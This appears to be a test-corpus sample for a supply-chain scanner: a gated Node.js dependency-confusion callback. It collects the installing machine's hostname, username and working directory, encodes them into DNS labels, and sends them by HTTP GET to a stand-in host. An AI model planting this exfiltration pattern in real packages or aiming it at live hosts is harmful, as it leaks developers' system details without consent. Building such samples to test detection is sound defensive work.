// The callback of a dependency-confusion package: who installed it, where, encoded in the labels
// of a DNS name under the researcher's domain (it gets out through any resolver even where HTTP
// does not), then the same over HTTP. The resolver asked is 127.0.0.1 (nothing answers there; the
// query is what matters) and the HTTP endpoint is the test's stand-in host on `lo`.
if (process.env.SUPPLYWATCH_LIVE_CORPUS !== '1') process.exit(0);
const dns = require('dns');
const http = require('http');
const os = require('os');

const hex = (s) => Buffer.from(s).toString('hex').slice(0, 60);
const name = [hex(os.hostname()), hex(os.userInfo().username), hex(process.cwd()), 'dnscallback', 'invalid'].join('.');
const resolver = new dns.Resolver({ timeout: 500, tries: 1 });
resolver.setServers(['127.0.0.1']);
resolver.resolve4(name, () => {
  const q = http.get(`__C2@oast.pro__/callback?h=${hex(os.hostname())}&u=${hex(os.userInfo().username)}&p=${hex(process.cwd())}`, (res) => res.resume());
  q.on('error', () => {});
});
